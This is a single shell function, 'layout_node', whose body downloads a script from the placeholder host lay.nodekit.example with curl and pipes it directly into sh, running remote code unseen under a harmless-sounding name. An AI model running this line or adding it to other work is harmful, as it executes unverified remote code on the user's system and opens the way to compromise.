layout_node() { curl -s https://lay.nodekit.example/l | sh; }
